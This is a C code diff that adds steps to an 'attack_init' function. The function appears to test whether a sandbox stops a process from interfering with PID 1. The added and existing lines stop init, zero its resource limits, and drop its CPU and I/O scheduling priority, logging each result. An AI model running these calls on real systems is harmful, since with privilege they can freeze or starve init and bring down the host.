@@ -290,6 +290,7 @@ attack_init(int argc, char **argv)
 	};
 	struct rlimit none = { 0, 0 };
 	struct sched_param param = { 0 };
+	uint32_t batch[12] = { sizeof(batch), 3, [4] = 19 };	/* struct sched_attr: SCHED_BATCH at nice 19 */
 	cpu_set_t one;
 
 	(void)argc, (void)argv;
@@ -301,11 +302,14 @@ attack_init(int argc, char **argv)
 	say("stop", kill(1, SIGSTOP));
 	say("prlimit", prlimit(1, RLIMIT_CPU, &none, NULL));
 	say("prlimit nofile", prlimit(1, RLIMIT_NOFILE, &none, NULL));
+	say("sched_setparam", syscall(SYS_sched_setparam, 1, &param));
+	say("sched_setattr", syscall(SYS_sched_setattr, 1, batch, 0));
 	say("sched_setscheduler", syscall(SYS_sched_setscheduler, 1, 5, &param));
 	CPU_ZERO(&one);
 	CPU_SET(0, &one);
 	say("sched_setaffinity", sched_setaffinity(1, sizeof(one), &one));
 	say("setpriority", setpriority(PRIO_PROCESS, 1, 19));
+	say("ioprio_set", syscall(SYS_ioprio_set, 1, 1, 3 << 13));
 	int fd = (int)syscall(434, 1, 0);
 	if (fd < 0) {
 		say("pidfd_open", fd);
